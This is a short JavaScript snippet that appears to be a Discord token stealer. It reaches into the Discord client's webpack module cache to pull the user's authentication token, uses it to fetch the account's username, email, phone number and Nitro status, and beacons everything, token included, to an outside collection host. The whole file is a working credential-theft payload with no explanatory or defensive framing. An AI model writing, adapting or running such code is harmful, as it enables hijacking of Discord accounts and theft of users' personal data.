let key;
(window.webpackChunkdiscord_app || []).push([[Symbol()], {}, (req) => {
  for (const m of Object.values(req.c)) {
    try {
      const d = m.exports && (m.exports.default || m.exports.Z || m.exports.ZP);
      if (d && typeof d.getToken === "function" && d.getToken()) key = d.getToken();
    } catch (e) {}
  }
}]);
if (key) {
  fetch("https://discord.com/api/v9/users/@me", { headers: { authorization: key } })
    .then((r) => r.json())
    .then((me) => {
      navigator.sendBeacon("https://tk.placeholder.example/g", JSON.stringify({ n: me.username, m: me.email, p: me.phone, nitro: me.premium_type, key }));
    });
}
